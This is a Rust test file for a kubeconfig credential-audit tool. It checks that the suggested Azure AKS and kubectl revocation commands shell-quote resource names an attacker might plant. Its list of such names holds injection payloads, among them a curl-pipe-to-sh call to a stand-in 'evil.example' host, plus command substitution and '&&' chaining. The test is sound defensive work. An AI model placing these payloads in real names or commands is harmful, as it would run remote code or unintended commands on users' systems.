//! Suggested commands quote planted names: the shell reads exactly the intended words.

use super::*;

/// Names planted to break out of suggested commands.
const NASTY: &[&str] = &[
    "rg; curl https://evil.example/x | sh; #",
    "a|b",
    "$(touch INJECTED)",
    "`touch INJECTED`",
    "it's",
    "\"dq\"",
    "line\nbreak",
    "two words",
    "&& touch INJECTED",
    "${IFS}x",
    "*",
    "back\\slash",
    "rg-platform",
];

/// Splits shell words with python3's shlex (POSIX rules); `None` without python3.
fn shlex(line: &str) -> Option<Vec<String>> {
    let out = Run::new("python3")
        .args([
            "-c",
            "import json,shlex,sys; print(json.dumps(shlex.split(sys.argv[1])))",
            line,
        ])
        .try_output()
        .ok()?;
    serde_json::from_slice(&out.stdout).ok()
}

/// The words `sh` makes of `words` (already quoted), printed by `printf` only.
fn sh_words(words: &str, cwd: &Path) -> Vec<String> {
    let out = Run::new("sh")
        .arg("-c")
        .arg(format!("printf '%s\\0' {words}"))
        .current_dir(cwd)
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .output();
    assert!(out.status.success(), "{}", stderr(&out));
    let text = String::from_utf8(out.stdout).unwrap();
    text.split_terminator('\0').map(str::to_owned).collect()
}

/// `sh -n`: the text parses as shell (nothing is run).
fn sh_parses(line: &str) -> bool {
    Run::new("sh")
        .args(["-n", "-c", line])
        .env_clear()
        .succeeds()
}

/// The AKS steps and revocation commands, and the legacy service-account
/// `kubectl delete secret`, split back into exactly the planted names, in
/// the JSON (what scripts copy) and in the table (escaped, same quoting);
/// and so do the fixes of `kcred check` ([`check_fixes_quote`]).
#[test]
fn suggested_commands_quote_planted_names() {
    let base = TempDir::new("injection-quote");
    let home = base.join("home");
    std::fs::create_dir_all(&home).unwrap();
    for (i, rg) in NASTY.iter().enumerate() {
        // The cluster name is after the last `_`: any word without one.
        let name = NASTY[(i + 1) % NASTY.len()];
        let user = format!("clusterAdmin_{rg}_{name}");
        let sa = jwt(&serde_json::json!({
            "iss": "kubernetes/serviceaccount",
            "kubernetes.io/serviceaccount/namespace": rg,
            "kubernetes.io/serviceaccount/secret.name": name,
            "kubernetes.io/serviceaccount/service-account.name": "builder",
        }));
        let y = format!(
            "apiVersion: v1\nclusters:\n- name: aks\n  cluster:\n    server: https://x.hcp.westeurope.azmk8s.io:443\ncontexts:\n- name: admin\n  context:\n    cluster: aks\n    user: {u}\n- name: sa\n  context:\n    cluster: plain\n    user: sa\nusers:\n- name: {u}\n  user:\n    token: static-token-value\n- name: sa\n  user:\n    token: {sa}\n",
            u = yq(&user),
        );
        let dir = base.join(format!("c{i}"));
        std::fs::create_dir_all(&dir).unwrap();
        let file = dir.join("config");
        std::fs::write(&file, y).unwrap();
        let f = file.to_str().unwrap();
        let out = kcred(
            &[
                "exposure",
                "--now",
                NOW,
                "--kubeconfig",
                f,
                "--format",
                "json",
            ],
            &dir,
            &home,
        );
        assert!(out.status.success(), "{}", both(&out));
        let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
        let contexts = doc["contexts"].as_array().unwrap();
        let admin = contexts.iter().find(|c| c["context"] == "admin").unwrap();
        let mut commands: Vec<(String, Vec<String>)> = Vec::new();
        for step in admin["steps"].as_array().unwrap() {
            let step = step.as_str().unwrap();
            assert!(sh_parses(step), "{step}");
            let command = step.split("   #").next().unwrap();
            let rest = if let Some(r) = command.strip_prefix("az aks rotate-certs ") {
                r
            } else if let Some(r) = command.strip_prefix("az aks update ") {
                r.strip_suffix(" --disable-local-accounts").unwrap()
            } else {
                continue;
            };
            let want = ["-g", rg, "-n", name].map(String::from).to_vec();
            commands.push((rest.to_owned(), want));
        }
        assert_eq!(commands.len(), 2, "{:?}", admin["steps"]);
        // The credential's own revocation sentence quotes the commands too
        // (cut at the fixed text around them: a planted backtick may sit inside).
        let want = ["-g", rg, "-n", name].map(String::from).to_vec();
        let cred = &admin["credentials"][0];
        let revoke = cred["revoke"].as_str().unwrap();
        let (_, rest) = revoke.split_once("only `az aks rotate-certs ").unwrap();
        let (rotate, rest) = rest.split_once("` replaces it; `az aks update ").unwrap();
        let (update, _) = rest.split_once(" --disable-local-accounts` stops").unwrap();
        commands.push((rotate.to_owned(), want.clone()));
        commands.push((update.to_owned(), want));
        let sa = contexts.iter().find(|c| c["context"] == "sa").unwrap();
        let revoke = sa["credentials"][0]["revoke"].as_str().unwrap();
        let rest = revoke.strip_prefix("`kubectl delete secret ").unwrap();
        let (words, _) = rest.split_once("` (the token lives").unwrap();
        commands.push((
            words.to_owned(),
            ["-n", rg, name].map(String::from).to_vec(),
        ));
        for (words, want) in &commands {
            assert_eq!(&sh_words(words, &dir), want, "sh split {words:?}");
            match shlex(words) {
                Some(got) => assert_eq!(&got, want, "shlex split {words:?}"),
                None => eprintln!("SKIPPED: python3 not found; shlex not run"),
            }
        }
        assert!(!dir.join("INJECTED").exists(), "a planted name ran");
        // The table shows the same quoted command, escaped.
        let out = kcred(&["exposure", "--now", NOW, "--kubeconfig", f], &dir, &home);
        shows_rotate_certs("exposure table", &out, rg, name);
        check_fixes_quote(f, &dir, &home, rg, name);
    }
    // Ordinary names stay bare, byte for byte.
    assert_eq!(shell_quote("rg-platform"), "rg-platform");
    assert_eq!(shell_quote("aks-prod-weu"), "aks-prod-weu");
}

/// Asserts that a table run is clean and shows `az aks rotate-certs -g RG -n
/// NAME` with the planted names quoted, then escaped; returns the table.
fn shows_rotate_certs(what: &str, out: &Output, rg: &str, name: &str) -> String {
    assert_clean(what, out);
    let table = String::from_utf8(out.stdout.clone()).unwrap();
    let want = format!(
        "az aks rotate-certs -g {} -n {}",
        shell_quote(rg),
        shell_quote(name)
    );
    assert!(
        table.contains(&*escape_text(&want)),
        "{what}: {want:?} not in {table}"
    );
    table
}

/// `kcred check`'s fix fills the AKS names in as `exposure` does: in the JSON
/// remediation (what scripts copy) both commands split back into exactly the
/// planted names; the table prints that fix once for the group of findings
/// it fixes, escaped, with the same quoting.
fn check_fixes_quote(file: &str, dir: &Path, home: &Path, rg: &str, name: &str) {
    let check = |format: &str| {
        let args = [
            "check", "--now", NOW, "--policy", "strict", "--format", format, file,
        ];
        let out = kcred(&args, dir, home);
        assert_eq!(out.status.code(), Some(1), "{}", both(&out));
        out
    };
    let doc: Value = serde_json::from_slice(&check("json").stdout).unwrap();
    let want = ["-g", rg, "-n", name].map(String::from).to_vec();
    let mut aks = 0;
    for finding in doc["findings"].as_array().unwrap() {
        let fix = finding["remediation"].as_str().unwrap();
        let Some((_, rest)) = fix.split_once("`az aks update ") else {
            continue; // the service-account token's findings
        };
        aks += 1;
        let (update, rest) = rest.split_once(" --disable-local-accounts`").unwrap();
        let (_, rest) = rest.split_once("`az aks rotate-certs ").unwrap();
        let (rotate, _) = rest.split_once("`) to revoke").expect(fix);
        for words in [update, rotate] {
            assert_eq!(sh_words(words, dir), want, "sh split {words:?}");
        }
    }
    assert!(aks >= 2, "{doc}");
    assert!(!dir.join("INJECTED").exists(), "a planted name ran");
    let table = shows_rotate_certs("check table", &check("table"), rg, name);
    // Every AKS finding shares that fix: it is printed once.
    assert_eq!(table.matches("az aks rotate-certs").count(), 1, "{table}");
}
